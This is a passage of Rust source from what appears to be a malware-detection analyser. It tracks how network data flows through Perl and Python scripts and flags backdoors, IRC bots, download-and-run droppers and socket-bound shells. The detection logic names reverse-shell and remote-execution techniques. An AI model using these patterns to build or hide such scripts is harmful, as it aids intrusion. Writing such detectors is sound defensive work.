                    if name == "_" && (c == b'@' || b.get(i) == Some(&b'[')) {
                        name = "@_".into();
                    }
                    // Subscripts and method arrows: `$h{x}`, `$a[0]`, `$r->{x}`.
                    loop {
                        let k = if b[i..].starts_with(b"->") { i + 2 } else { i };
                        match b.get(k) {
                            Some(&o @ (b'[' | b'{')) => {
                                let close = if o == b'[' { b']' } else { b'}' };
                                i = memchr::memchr(close, &b[k..]).map_or(b.len(), |n| k + n + 1);
                            }
                            _ => break,
                        }
                    }
                    if !lit.is_empty() {
                        f(Piece::Lit(std::mem::take(&mut lit)));
                    }
                    f(Piece::Var(name));
                }
                (Lang::Python, b'{') if b.get(i + 1) == Some(&b'{') => {
                    lit.push('{');
                    i += 2;
                }
                (Lang::Python, b'}') if b.get(i + 1) == Some(&b'}') => {
                    lit.push('}');
                    i += 2;
                }
                (Lang::Python, b'{') => {
                    let end = memchr::memchr(b'}', &b[i..]).map_or(b.len(), |n| i + n);
                    let expr = text[i + 1..end].trim();
                    let name_end = expr
                        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
                        .unwrap_or(expr.len());
                    let mut name = &expr[..name_end];
                    if expr[name_end..].starts_with('(') {
                        name = name.rsplit_once('.').map_or("", |(h, _)| h);
                    }
                    if !lit.is_empty() {
                        f(Piece::Lit(std::mem::take(&mut lit)));
                    }
                    if name.is_empty() {
                        f(Piece::Unknown);
                    } else {
                        f(Piece::Var(name.to_string()));
                    }
                    i = end + 1;
                }
                _ => {
                    let len = text[i..].chars().next().map_or(1, char::len_utf8);
                    lit.push_str(&text[i..i + len]);
                    i += len;
                }
            }
        }
        if !lit.is_empty() {
            f(Piece::Lit(lit));
        }
    }

    fn id(&mut self, key: &str) -> usize {
        if let Some(&i) = self.ids.get(key) {
            return i;
        }
        let i = self.labels.len();
        self.ids.insert(key.to_string(), i);
        self.labels.push(0);
        self.edges.push(Vec::new());
        i
    }

    /// A variable's labels; a Python attribute has those of what it belongs to.
    fn label(&self, key: &str) -> u8 {
        let mut l = self.ids.get(key).map_or(0, |&i| self.labels[i]);
        if self.lang == Lang::Python {
            let mut k = key;
            while let Some((head, _)) = k.rsplit_once('.') {
                l |= self.ids.get(head).map_or(0, |&i| self.labels[i]);
                k = head;
            }
        }
        l
    }

    fn flow(&mut self, from: &[String], to: &str) {
        let t = self.id(to);
        for f in from {
            let f = self.id(f);
            if f != t && self.edges[f].last() != Some(&t) {
                self.edges[f].push(t);
            }
        }
    }

    fn taint(&mut self, key: &str, labels: u8) {
        if labels != 0 {
            let i = self.id(key);
            self.labels[i] |= labels;
        }
    }

    // ---- where network data comes from and where it goes

    /// The labels of the network data an expression reads directly.
    fn sources(&self, r: Range<usize>, cx: Cx) -> u8 {
        let mut l = 0;
        for k in r.clone() {
            match self.t(k) {
                Some(T::ReadLine(h))
                    if self.lang == Lang::Perl && self.socketish(&self.key(h, cx)) =>
                {
                    l |= SOCKET;
                }
                Some(T::Cmd(text)) if fetches(&self.render_str(text, true, cx).text) => {
                    l |= HTTP;
                }
                Some(T::Name(n)) => {
                    let method = k > r.start && self.op(k - 1, "->");
                    match self.lang {
                        Lang::Perl if method => {
                            let recv = match self.t(k - 2) {
                                Some(T::Var(v)) => self.key(v, cx),
                                _ => String::new(),
                            };
                            match n.as_str() {
                                "get" | "post" | "put" | "request" | "simple_request"
                                    if self.http_client =>
                                {
                                    l |= HTTP
                                }
                                "recv" | "getline" | "getlines" | "get_line"
                                    if self.socketish(&recv) =>
                                {
                                    l |= SOCKET
                                }
                                "args" | "body" if self.irc => l |= SOCKET,
                                _ => {}
                            }
                        }
                        Lang::Perl => {
                            if matches!(n.as_str(), "get" | "LWP::Simple::get")
                                && self.modules.iter().any(|m| m == "LWP::Simple")
                            {
                                l |= HTTP;
                            }
                        }
                        Lang::Python if self.op(k + 1, "(") => {
                            let full = self.resolve(n);
                            let last = full.rsplit('.').next().unwrap_or_default();
                            if n.contains('.')
                                && matches!(last, "recv" | "recvfrom" | "recvmsg" | "makefile")
                            {
                                l |= SOCKET;
                            }
                            if last == "urlopen"
                                || last == "getresponse"
                                || matches!(
                                    full.as_str(),
                                    "requests.get"
                                        | "requests.post"
                                        | "requests.put"
                                        | "requests.request"
                                        | "requests.head"
                                        | "requests.patch"
                                        | "httpx.get"
                                        | "httpx.post"
                                        | "httpx.request"
                                )
                            {
                                l |= HTTP;
                            }
                            if matches!(
                                full.as_str(),
                                "subprocess.check_output"
                                    | "subprocess.getoutput"
                                    | "os.popen"
                                    | "commands.getoutput"
                            ) && let Some(a) = self.split_args(k + 2..self.close[k + 1]).first()
                                && fetches(&self.render(a.clone(), cx).text)
                            {
                                l |= HTTP;
                            }
                        }
                        Lang::Python => {}
                    }
                }
                _ => {}
            }
        }
        l
    }

    fn flows(&mut self) {
        for s in 0..self.stmts.len() {
            let r = self.stmts[s].range.clone();
            let cx = self.stmts[s].cx();
            for (lhs, rhs) in self.assignments(r.clone()) {
                let from = self.vars_in(rhs.clone(), cx);
                let labels = self.sources(rhs, cx);
                for key in self.lhs_keys(lhs, cx) {
                    self.taint(&key, labels);
                    self.flow(&from, &key);
                }
            }
            self.loops(r.clone(), cx);
            let calls = self.calls(r.clone(), cx);
            for call in &calls {
                self.call_flows(call, cx);
            }
            // Regex captures: `$1` holds what the matched variable held.
            if self.lang == Lang::Perl {
                for k in r.clone() {
                    if !matches!(self.t(k), Some(T::Regex(_))) {
                        continue;
                    }
                    let bound = k > r.start && (self.op(k - 1, "=~") || self.op(k - 1, "!~"));
                    let from = if bound {
                        let p = self.parent[k - 1];
                        let mut m = k - 1;
                        while m > r.start
                            && k - m < 16
                            && self.parent[m - 1] == p
                            && !matches!(
                                self.t(m - 1),
                                Some(T::Op("," | "(" | "=" | "&&" | "||" | "!"))
                            )
                        {
                            m -= 1;
                        }
                        self.vars_in(m..k - 1, cx)
                    } else {
                        vec!["_".to_string()]
                    };
                    for n in ["1", "2", "3", "4", "5", "6", "7", "8", "9", "&"] {
                        self.flow(&from, n);
                    }
                }
            }
        }
        if self.irc {
            let keys: Vec<String> = self
                .params
                .iter()
                .filter(|(n, _)| IRC_HANDLERS.contains(&n.as_str()))
                .flat_map(|(_, defs)| defs.iter().flat_map(Params::keys))
                .collect();
            for k in keys {
                self.taint(&k, SOCKET);
            }
        }
    }

    /// Loop variables: Perl `foreach my $x (LIST)`, `while (<$s>)`; Python `for x
    /// in …:` and `with … as x:`.
    fn loops(&mut self, r: Range<usize>, cx: Cx) {
        let first = self.name(r.start).unwrap_or_default().to_string();
        match self.lang {
            Lang::Perl => {
                let Some(open) = (r.start..r.end).find(|&k| self.op(k, "(")) else {
                    return;
                };
                let inner = open + 1..self.close[open].min(r.end);
                if matches!(first.as_str(), "for" | "foreach") && !self.op(open + 1, ";") {
                    let var = (r.start + 1..open)
                        .find_map(|k| match self.t(k) {
                            Some(T::Var(v)) => Some(self.key(v, cx)),
                            _ => None,
                        })
                        .unwrap_or_else(|| "_".into());
                    let from = self.vars_in(inner.clone(), cx);
                    let labels = self.sources(inner, cx);
                    self.taint(&var, labels);
                    self.flow(&from, &var);
                } else if matches!(first.as_str(), "while" | "until" | "if" | "unless")
                    && self.assignments(inner.clone()).is_empty()
                    && inner
                        .clone()
                        .any(|k| matches!(self.t(k), Some(T::ReadLine(_))))
                {
                    let labels = self.sources(inner, cx);
                    self.taint("_", labels);
                }
            }
            Lang::Python => {
                if first == "for" || (first == "async" && self.name(r.start + 1) == Some("for")) {
                    let start = r.start + 1 + usize::from(first == "async");
                    if let Some(inn) = (start..r.end)
                        .find(|&k| self.name(k) == Some("in") && self.parent[k] == usize::MAX)
                    {
                        let end = (inn..r.end)
                            .find(|&k| self.op(k, ":") && self.parent[k] == usize::MAX)
                            .unwrap_or(r.end);
                        let from = self.vars_in(inn + 1..end, cx);
                        let labels = self.sources(inn + 1..end, cx);
                        for key in self.lhs_keys(start..inn, cx) {
                            self.taint(&key, labels);
                            self.flow(&from, &key);
                        }
                    }
                }
                if matches!(first.as_str(), "with" | "async") {
                    let mut from_start = r.start + 1;
                    for k in r.clone() {
                        if self.name(k) == Some("as")
                            && let Some(n) = self.name(k + 1)
                        {
                            let n = n.to_string();
                            let from = self.vars_in(from_start..k, cx);
                            let labels = self.sources(from_start..k, cx);
                            self.taint(&n, labels);
                            self.flow(&from, &n);
                            from_start = k + 2;
                        }
                    }
                }
            }
        }
    }

    /// Arguments flow into the parameters of the script's own subs and functions
    /// (and of a thread's target); Perl's `sysread`/`recv` fill their buffers from
    /// the socket.
    fn call_flows(&mut self, call: &Call, cx: Cx) {
        let short = call.name.rsplit(['.', '>', ':']).next().unwrap_or_default();
        // Python's special methods are called implicitly, not by name.
        let dunder = short.starts_with("__") && short.ends_with("__");
        if let Some(defs) = self.params.get(short).filter(|_| !dunder).cloned() {
            let mut positional = 0;
            for a in &call.args {
                let (name, value) = match self.kwarg(a) {
                    Some((n, v)) => (Some(n), v),
                    None => {
                        positional += 1;
                        (None, a.clone())
                    }
                };
                let from = self.vars_in(value.clone(), cx);
                let labels = self.sources(value, cx);
                for def in &defs {
                    let param = match name {
                        Some(n) => def.names.iter().find(|(p, _)| p == n).map(|(_, k)| k),
                        None => def.names.get(positional - 1).map(|(_, k)| k),
                    };
                    if let Some(p) = param.or(def.rest.as_ref()) {
                        self.taint(p, labels);
                        self.flow(&from, p);
                    }
                }
            }
        }
        if self.lang == Lang::Python {
            let target = call.args.iter().find_map(|a| match self.kwarg(a) {
                Some(("target", v)) => self.name(v.start),
                _ => None,
            });
            let defs = target
                .and_then(|t| self.params.get(t.rsplit('.').next().unwrap_or_default()))
                .cloned();
            let args = call.args.iter().find_map(|a| match self.kwarg(a) {
                Some(("args", v)) if self.op(v.start, "(") => {
                    Some(self.split_args(v.start + 1..self.close[v.start].min(v.end)))
                }
                _ => None,
            });
            if let (Some(defs), Some(args)) = (defs, args) {
                for (i, a) in args.into_iter().enumerate() {
                    let from = self.vars_in(a, cx);
                    for def in &defs {
                        if let Some((_, p)) = def.names.get(i) {
                            self.flow(&from, p);
                        }
                    }
                }
            }
            if short == "recv_into"
                && let Some(a) = call.args.first()
            {
                for v in self.vars_in(a.clone(), cx) {
                    self.taint(&v, SOCKET);
                }
            }
            return;
        }
        let buffer = match call.name.as_str() {
            "sysread" | "read" | "recv" => {
                let handle = call.args.first().and_then(|a| self.handle(a.clone(), cx));
                handle.filter(|h| self.socketish(h)).and(call.args.get(1))
            }
            "->recv" | "->sysread" | "->read" => call
                .recv
                .as_deref()
                .filter(|h| self.socketish(h))
                .and(call.args.first()),
            _ => None,
        };
        if let Some(b) = buffer.cloned() {
            for v in self.vars_in(b, cx) {
                self.taint(&v, SOCKET);
            }
        }
    }

    /// Spreads the labels along the flows.
    fn close(&mut self) {
        let mut work: Vec<usize> = (0..self.labels.len())
            .filter(|&i| self.labels[i] != 0)
            .collect();
        while let Some(i) = work.pop() {
            let l = self.labels[i];
            for k in 0..self.edges[i].len() {
                let t = self.edges[i][k];
                if self.labels[t] | l != self.labels[t] {
                    self.labels[t] |= l;
                    work.push(t);
                }
            }
        }
    }

    // ---- rendering expressions to text

    fn render(&self, r: Range<usize>, cx: Cx) -> Text {
        let mut out = Text {
            text: String::new(),
            exact: true,
            labels: 0,
        };
        if r.is_empty() || self.nesting.get() >= MAX_NESTING {
            out.unknown("?");
            return out;
        }
        self.nesting.set(self.nesting.get() + 1);
        let concat = if self.lang == Lang::Perl { "." } else { "+" };
        let top = self.parent.get(r.start).copied().unwrap_or(usize::MAX);
        let mut start = r.start;
        for k in r.start..=r.end {
            if k == r.end || (self.parent[k] == top && self.op(k, concat)) {
                self.operand(start..k, cx, &mut out);
                start = k + 1;
            }
        }
        self.nesting.set(self.nesting.get() - 1);
        out
    }

    fn operand(&self, r: Range<usize>, cx: Cx, out: &mut Text) {
        if r.is_empty() {
            return out.unknown("?");
        }
        let k = r.start;
        let simple_tail = |from: usize| {
            let mut m = from;
            while m < r.end {
                match self.t(m) {
                    Some(T::Op("[" | "{" | "(")) => m = self.close[m] + 1,
                    Some(T::Op("->")) => m += 1,
                    Some(T::Name(n)) if n.starts_with('.') || self.op(m.wrapping_sub(1), "->") => {
                        m += 1
                    }
                    _ => return false,
                }
            }
            true
        };
        match self.t(k) {
            Some(T::Str { text, interp }) => {
                let mut s = self.render_str(text, *interp, cx);
                if self.lang == Lang::Python && self.op(k + 1, "%") {
                    s = self.percent(s, k + 2..r.end, cx);
                } else if self.lang == Lang::Python
                    && self.name(k + 1) == Some(".format")
                    && self.op(k + 2, "(")
                {
                    s = self.format(s, k + 3..self.close[k + 2].min(r.end), cx);
                } else if !simple_tail(k + 1) {
                    return self.opaque(r, cx, out);
                }
                out.labels |= s.labels;
                out.exact &= s.exact;
                out.push(&s.text);
            }
            Some(T::Num(n)) if r.len() == 1 => out.push(n),
            Some(T::Var(v)) if simple_tail(k + 1) => {
                let key = self.key(v, cx);
                self.value(&key, out);
            }
            Some(T::Name(n)) if self.lang == Lang::Python => {
                let full = self.resolve(n);
                if self.op(k + 1, "(") {
                    let c = self.close[k + 1];
                    let args = self.split_args(k + 2..c.min(r.end));
                    if !simple_tail(c + 1) {
                        return self.opaque(r, cx, out);
                    }
                    if full == "os.path.join" {
                        for (i, a) in args.iter().enumerate() {
                            if i > 0 && !out.text.ends_with('/') {
                                out.push("/");
                            }
                            let part = self.render(a.clone(), cx);
                            out.labels |= part.labels;
                            out.exact &= part.exact;
                            out.push(&part.text);
                        }
                    } else if matches!(full.as_str(), "str" | "bytes" | "bytearray")
                        && let Some(a) = args.first()
                    {
                        let part = self.render(a.clone(), cx);
                        out.labels |= part.labels;
                        out.exact &= part.exact;
                        out.push(&part.text);
                    } else if let Some((recv, _)) = n.rsplit_once('.')
                        && self.sources(r.clone(), cx) == 0
                    {
                        // A method of a variable (`data.decode()`, `cmd.strip()`).
                        self.value(&self.key(recv, cx), out);
                    } else {
                        self.opaque(r, cx, out);
                    }
                } else if simple_tail(k + 1) {
                    self.value(&self.key(n, cx), out);
                } else {
                    self.opaque(r, cx, out);
                }
            }
            _ => self.opaque(r, cx, out),
        }
    }

    /// An expression this does not evaluate: network data if any of it is.
    fn opaque(&self, r: Range<usize>, cx: Cx, out: &mut Text) {
        let mut l = self.sources(r.clone(), cx);
        for v in self.vars_in(r, cx) {
            l |= self.label(&v);
        }
        if l != 0 {
            out.labels |= l;
            out.exact = false;
            out.push(&marker(l).to_string());
        } else {
            out.unknown("?");
        }
    }

    /// A variable's rendering: network data, its one constant value, or `$name`.
    fn value(&self, key: &str, out: &mut Text) {
        let l = self.label(key);
        if l != 0 {
            out.labels |= l;
            out.exact = false;
            out.push(&marker(l).to_string());
        } else if let Some(Some(v)) = self.consts.get(key) {
            out.push(v);
        } else {
            out.unknown(&format!("${key}"));
        }
    }

    fn render_str(&self, text: &str, interp: bool, cx: Cx) -> Text {
        let mut out = Text {
            text: String::new(),
            exact: true,
            labels: 0,
        };
        if !interp {
            out.push(text);
            return out;
        }
        let mut lit = String::new();
        self.interpolate(text, &mut |p| match p {
            Piece::Lit(s) => lit.push_str(&s),
            Piece::Var(v) => {
                let mut part = Text {
                    text: std::mem::take(&mut lit),
                    exact: true,
                    labels: 0,
                };
                self.value(&self.key(&v, cx), &mut part);
                out.labels |= part.labels;
                out.exact &= part.exact;
                out.push(&part.text);
            }
            Piece::Unknown => {
                out.push(&std::mem::take(&mut lit));
                out.unknown("?");
            }
        });
        if self.lang == Lang::Python {
            lit = super::python::unescape(&lit);
        }
        out.push(&lit);
        out
    }

    /// Python `"…%s…" % (a, b)`.
    fn percent(&self, mut s: Text, r: Range<usize>, cx: Cx) -> Text {
        let args = if self.op(r.start, "(") {
            self.split_args(r.start + 1..self.close[r.start].min(r.end))
        } else {
            vec![r]
        };
        let mut out = String::new();
        let mut args = args.into_iter();
        let mut rest = s.text.as_str();
        while let Some(p) = rest.find('%') {
            out.push_str(&rest[..p]);
            let spec = rest[p + 1..].chars().next().unwrap_or(' ');
            if spec == '%' {
                out.push('%');
            } else if let Some(a) = args.next() {
                let v = self.render(a, cx);
                s.labels |= v.labels;
                s.exact &= v.exact;
                out.push_str(&v.text);
            }
            rest = &rest[(p + 1 + spec.len_utf8()).min(rest.len())..];
        }
        out.push_str(rest);
        s.text = out;
        s
    }

    /// Python `"…{}…".format(a, b)`.
    fn format(&self, mut s: Text, r: Range<usize>, cx: Cx) -> Text {
        let args: Vec<Range<usize>> = self.split_args(r);
        let mut out = String::new();
        let mut rest = s.text.as_str();
        let mut n = 0;
        while let Some(p) = rest.find('{') {
            out.push_str(&rest[..p]);
            let end = rest[p..].find('}').map_or(rest.len(), |e| p + e);
            let field = &rest[p + 1..end];
            let index = if field.is_empty() {
                n += 1;
                Some(n - 1)
            } else {
                field.parse::<usize>().ok()
            };
            match index.and_then(|i| args.get(i)) {
                Some(a) => {
                    let v = self.render(a.clone(), cx);
                    s.labels |= v.labels;
                    s.exact &= v.exact;
                    out.push_str(&v.text);
                }
                None => {
                    s.exact = false;
                    out.push('?');
                }
            }
            rest = &rest[(end + 1).min(rest.len())..];
        }
        out.push_str(rest);
        s.text = out;
        s
    }

    // ---- what the script does, in order

    fn act(&mut self, j: &mut Judge) {
        let mut act = Acts::default();
        for s in 0..self.stmts.len() {
            if !self.runs(&self.stmts[s]) {
                continue;
            }
            let r = self.stmts[s].range.clone();
            let cx = self.stmts[s].cx();
            let at = self.at(r.start);
            // Backticks and `qx`: a command through a shell.
            for k in r.clone() {
                if let Some(T::Cmd(text)) = self.t(k) {
                    let cmd = self.render_str(text, true, cx);
                    self.ran(cmd, false, self.at(k), &mut act, j);
                }
            }
            for call in self.calls(r.clone(), cx) {
                self.call(&call, r.clone(), cx, at, &mut act, j);
            }
        }
        if let Some(at) = act.remote {
            j.seen.add(Heuristic::ScriptRemoteCommand, at);
            if self.irc {
                j.seen.add(Heuristic::ScriptIrcBot, at);
            }
        }
        if let Some(at) = act.downloaded_run {
            j.seen.add(Heuristic::ScriptFetchRun, at);
        }
        if let Some(at) = act.shell
            && self.net
            && act.dup
        {
            j.seen.add(Heuristic::ScriptSocketShell, at);
        }
    }

    fn call(&self, call: &Call, r: Range<usize>, cx: Cx, at: usize, act: &mut Acts, j: &mut Judge) {
        let arg = |i: usize| call.args.get(i).map(|a| self.render(a.clone(), cx));
        let text = |i: usize| arg(i).map(|t| t.text).unwrap_or_default();
        let short = call.name.rsplit(['.', '>']).next().unwrap_or_default();
        let data_labels = |a: Option<&Range<usize>>| {
            a.map_or(0, |a| {
                self.sources(a.clone(), cx)
                    | self
                        .vars_in(a.clone(), cx)
                        .iter()
                        .fold(0, |l, v| l | self.label(v))
            })
        };
        match (self.lang, call.name.as_str()) {
            (Lang::Perl, "chdir") | (Lang::Python, "os.chdir") => j.drops.cd(&text(0)),
            (Lang::Perl, "unlink") | (Lang::Python, "os.remove" | "os.unlink") => {
                for i in 0..call.args.len() {
                    j.drops.deleted(&text(i), at);
                }
            }
            (Lang::Perl, "chmod")
                if call.args.first().is_some_and(|m| self.perl_mode(m.clone())) =>
            {
                for i in 1..call.args.len() {
                    j.drops.made_executable(&text(i));
                }
            }
            (Lang::Python, "os.chmod")
                if call
                    .args
                    .get(1)
                    .is_some_and(|m| self.python_mode(m.clone())) =>
            {
                j.drops.made_executable(&text(0));
            }
            (
                Lang::Perl,
                "getstore"
                | "LWP::Simple::getstore"
                | "mirror"
                | "LWP::Simple::mirror"
                | "->mirror",
            ) => {
                j.drops.fetched(&text(1), at);
            }
            (Lang::Perl, "->get" | "->request") => {
                if let Some(k) = call.args.iter().position(|a| matches!(self.t(a.start), Some(T::Str { text, .. }) if text == ":content_file")) {
                    j.drops.fetched(&text(k + 1), at);
                }
            }
            (Lang::Python, _) if short == "urlretrieve" || call.name == "wget.download" => {
                j.drops.fetched(&text(1), at)
            }
            (Lang::Perl, "open") => self.perl_open(call, cx, at, act, j),
            (Lang::Perl, "print" | "printf" | "say" | "syswrite") => {
                let (handle, data) = self.perl_output(call, cx);
                if let Some(path) = handle.and_then(|h| act.handles.get(&h))
                    && data.iter().any(|d| data_labels(Some(d)) != 0)
                {
                    j.drops.fetched(path, at);
                }
            }
            (Lang::Perl, "->print" | "->printf" | "->write" | "->syswrite" | "->say")
            | (Lang::Python, _)
                if matches!(
                    short,
                    "print" | "printf" | "write" | "syswrite" | "say" | "write_bytes"
                ) && call
                    .recv
                    .as_ref()
                    .is_some_and(|h| act.handles.contains_key(h)) =>
            {
                if let Some(path) = call.recv.as_ref().and_then(|h| act.handles.get(h))
                    && data_labels(call.args.first()) != 0
                {
                    j.drops.fetched(path, at);
                }
            }
            (Lang::Python, "shutil.copyfileobj") => {
                if let Some(path) = call
                    .args
                    .get(1)
                    .and_then(|a| self.name(a.start))
                    .and_then(|h| act.handles.get(h))
                    && data_labels(call.args.first()) != 0
                {
                    j.drops.fetched(path, at);
                }
            }
            (Lang::Python, "open" | "io.open" | "codecs.open") => {
                self.python_open(call, r, cx, at, act, j)
            }
            (Lang::Perl, "dup2" | "POSIX::dup2") => act.dup = true,
            (Lang::Python, "os.dup2")
                if call
                    .args
                    .first()
                    .is_some_and(|a| self.mentions_socket(a.clone(), cx)) =>
            {
                act.dup = true;
            }
            _ => {}
        }
        self.runner(call, cx, act, j);
    }

    /// A command runner: what it runs.
    fn runner(&self, call: &Call, cx: Cx, act: &mut Acts, j: &mut Judge) {
        let at = self.at(call.at);
        let positional: Vec<Range<usize>> = call
            .args
            .iter()
            .filter(|a| self.kwarg(a).is_none())
            .cloned()
            .collect();
        let block =
            self.lang == Lang::Perl && positional.first().is_some_and(|a| self.op(a.start, "{"));
        let (runs, from) = match (self.lang, call.name.as_str()) {
            (Lang::Perl, "system" | "exec") => (
                if positional.len() > 1 || block {
                    Runs::Argv
                } else {
                    Runs::Shell
                },
                0,
            ),
            (Lang::Perl, "open2" | "IPC::Open2::open2") => (Runs::Argv, 2),
            (Lang::Perl, "open3" | "IPC::Open3::open3") => (Runs::Argv, 3),
            (Lang::Perl, "eval") => (Runs::Code, 0),
            (Lang::Python, n) => match n {
                "os.system"
                | "os.popen"
                | "os.popen2"
                | "os.popen3"
                | "os.popen4"
                | "commands.getoutput"
                | "commands.getstatusoutput"
                | "subprocess.getoutput"
                | "subprocess.getstatusoutput"
                | "asyncio.create_subprocess_shell"
                | "platform.popen" => (Runs::Shell, 0),
                "subprocess.call"
                | "subprocess.run"
                | "subprocess.Popen"
                | "subprocess.check_call"
                | "subprocess.check_output"
                | "Popen"
                | "check_output"
                | "check_call"
                | "getoutput" => {
                    let shell = call.args.iter().any(|a| matches!(self.kwarg(a), Some(("shell", v)) if self.name(v.start) == Some("True")));
                    if call.args.iter().any(|a| matches!(self.kwarg(a), Some(("stdin" | "stdout" | "stderr", v)) if self.mentions_socket(v.clone(), cx))) {
                        act.dup = true;
                    }
                    (if shell { Runs::Shell } else { Runs::Argv }, 0)
                }
                "asyncio.create_subprocess_exec"
                | "pty.spawn"
                | "os.execl"
                | "os.execle"
                | "os.execlp"
                | "os.execlpe"
                | "os.execv"
                | "os.execve"
                | "os.execvp"
                | "os.execvpe"
                | "os.posix_spawn"
                | "os.posix_spawnp"
                | "os.startfile" => (Runs::Argv, 0),
                "os.spawnl" | "os.spawnle" | "os.spawnlp" | "os.spawnlpe" | "os.spawnv"
                | "os.spawnve" | "os.spawnvp" | "os.spawnvpe" => (Runs::Argv, 1),
                "exec" | "eval" => (Runs::Code, 0),
                _ => return,
            },
            _ => return,
        };
        if runs == Runs::Code {
            // Code that is network data itself, not a template it is put into.
            if let Some(a) = positional.first() {
                let code = self.render(a.clone(), cx);
                self.remote(
                    markers_in(code.text.trim_start().get(..1).unwrap_or_default()),
                    at,
                    act,
                );
            }
            return;
        }
        let Some(first) = positional.get(from) else {
            return;
        };
        let cmd = if runs == Runs::Argv {
            // `["sh", "-c", cmd]`, `("a", "b")`, or the arguments themselves.
            let parts: Vec<Range<usize>> = if self.op(first.start, "[")
                || (self.op(first.start, "(") && self.close[first.start] + 1 >= first.end)
            {
                self.split_args(first.start + 1..self.close[first.start].min(first.end))
            } else if block {
                // `exec {"/bin/sh"} "-sh"`: the program is in the braces.
                let c = self.close[first.start].min(first.end);
                let mut p = Vec::from_iter(std::iter::once(first.start + 1..c));
                if c + 1 < first.end {
                    p.push(c + 1..first.end);
                }
                p.extend(positional[from + 1..].iter().cloned());
                p
            } else {
                positional[from..].to_vec()
            };
            let mut text = Text {
                text: String::new(),
                exact: true,
                labels: 0,
            };
            for (i, p) in parts.iter().enumerate() {
                let v = self.render(p.clone(), cx);
                if i > 0 {
                    text.push(" ");
                }
                text.labels |= v.labels;
                text.exact &= v.exact;
                if i > 0 && v.text.contains(char::is_whitespace) && !v.text.contains('\'') {
                    text.push(&format!("'{}'", v.text));
                } else {
                    text.push(&v.text);
                }
            }
            text
        } else {
            self.render(first.clone(), cx)
        };
        let spawn = call.name == "pty.spawn";
        // `Popen` and friends return at once: the program runs on in the background.
        let mut cmd = cmd;
        if short_name(&call.name).starts_with("Popen")
            || call.name.contains("spawn")
            || call.name.starts_with("asyncio.")
        {
            cmd.push(" &");
        }
        self.ran(cmd, spawn, at, act, j);
    }

    /// A command is run: network data in the program's place makes it a backdoor
    /// or a dropper; a command of the script's own goes to the shell judge.
    fn ran(&self, cmd: Text, spawn: bool, at: usize, act: &mut Acts, j: &mut Judge) {
        let head = head_labels(&cmd.text, 0);
        if head != 0 {
            self.remote(head, at, act);
            return;
        }
        if spawn || first_word(&cmd.text).is_some_and(|w| SHELLS.contains(&w)) {
            act.shell.get_or_insert(at);
        }
        let plain: String = cmd
            .text
            .chars()
            .map(|c| if (c as u32) <= 3 { '?' } else { c })
            .collect();
        shell::command(&plain, at, j);
    }

    fn remote(&self, labels: u8, at: usize, act: &mut Acts) {
        if labels & SOCKET != 0 {
            act.remote.get_or_insert(at);
        }
        if labels & HTTP != 0 {
            act.downloaded_run.get_or_insert(at);
        }
    }

    fn mentions_socket(&self, r: Range<usize>, cx: Cx) -> bool {
        (r.start..r.end)
            .any(|k| matches!(self.name(k), Some(n) if n.ends_with(".fileno") || n == "fileno"))
            || self.vars_in(r, cx).iter().any(|v| self.sockets.contains(v))
    }

    /// Perl `open`: a file opened for writing (a handle and its path), a pipe to or
    /// from a command, or a standard handle duplicated onto another.
    fn perl_open(&self, call: &Call, cx: Cx, at: usize, act: &mut Acts, j: &mut Judge) {
        let Some(handle) = call.args.first().and_then(|a| self.handle(a.clone(), cx)) else {
            return;
        };
        let render = |i: usize| call.args.get(i).map(|a| self.render(a.clone(), cx));
        let (mode, target) = match call.args.len() {
            0 | 1 => return,
            2 => {
                let Some(spec) = render(1) else {
                    return;
                };
                let t = spec.text.trim();
                let mode_len = t.len()
                    - t.trim_start_matches(['+', '<', '>', '&', '=', '|', '-'])
                        .len();
                let mut mode = t[..mode_len].to_string();
                let mut target = t[mode_len..].trim().to_string();
                if mode.is_empty() && target.ends_with('|') {
                    mode = "-|".into();
                    target = target.trim_end_matches('|').trim().to_string();
                }
                (
                    mode,
                    Text {
                        text: target,
                        exact: spec.exact,
                        labels: spec.labels,
                    },
                )
            }
            _ => {
                let mode = render(1)
                    .map(|m| m.text.trim().to_string())
                    .unwrap_or_default();
                let Some(target) = render(2) else {
                    return;
                };
                (mode, target)
            }
        };
        if STD_HANDLES[..3].contains(&handle.as_str()) && mode.contains('&') {
            act.dup = true;
            return;
        }
        if mode.contains('|') {
            let mut cmd = target;
            for i in 3..call.args.len() {
                if let Some(more) = render(i) {
                    cmd.text.push(' ');
                    cmd.text.push_str(&more.text);
                    cmd.labels |= more.labels;
                }
            }
            self.ran(cmd, false, at, act, j);
        } else if mode.contains('>') || mode.starts_with("+<") {
            act.handles.insert(handle, target.text);
        }
    }

    /// The handle and the data of Perl `print FH LIST`, `print {$fh} LIST`,
    /// `syswrite($fh, DATA)`.
    fn perl_output(&self, call: &Call, cx: Cx) -> (Option<String>, Vec<Range<usize>>) {
        if call.name == "syswrite" {
            return (
                call.args.first().and_then(|a| self.handle(a.clone(), cx)),
                call.args.get(1).cloned().into_iter().collect(),
            );
        }
        let Some(first) = call.args.first() else {
            return (None, Vec::new());
        };
        let k = first.start;
        let handle_end = if self.op(k, "{") {
            Some(self.close[k] + 1)
        } else if matches!(self.t(k), Some(T::Var(_) | T::Name(_)))
            && first.len() > 1
            && !matches!(self.t(k + 1), Some(T::Op(_)))
        {
            Some(k + 1)
        } else {
            None
        };
        match handle_end {
            Some(e) => {
                let handle = self.handle(k..e, cx);
                let mut data = Vec::from_iter(std::iter::once(e..first.end));
                data.extend(call.args[1..].iter().cloned());
                (handle, data)
            }
            None => (None, call.args.clone()),
        }
    }

    /// Python `open(path, "wb")` bound to a name (`as f`, `f = open(…)`) or written
    /// at once (`open(…).write(data)`).
    fn python_open(
        &self,
        call: &Call,
        r: Range<usize>,
        cx: Cx,
        at: usize,
        act: &mut Acts,
        j: &mut Judge,
    ) {
        let mode = call
            .args
            .iter()
            .find_map(|a| match self.kwarg(a) {
                Some(("mode", v)) => Some(v),
                _ => None,
            })
            .or_else(|| {
                call.args
                    .get(1)
                    .filter(|a| self.kwarg(a).is_none())
                    .cloned()
            })
            .map(|m| self.render(m, cx).text)
            .unwrap_or_default();
        if !mode.contains(['w', 'a', 'x']) {
            return;
        }
        let Some(path) = call.args.first().map(|a| self.render(a.clone(), cx).text) else {
            return;
        };
        if let Some(".write") = self.name(call.end) {
            if self.op(call.end + 1, "(") {
                let c = self.close[call.end + 1];
                let data = call.end + 2..c;
                let l = self.sources(data.clone(), cx)
                    | self
                        .vars_in(data, cx)
                        .iter()
                        .fold(0, |l, v| l | self.label(v));
                if l != 0 {
                    j.drops.fetched(&path, at);
                }
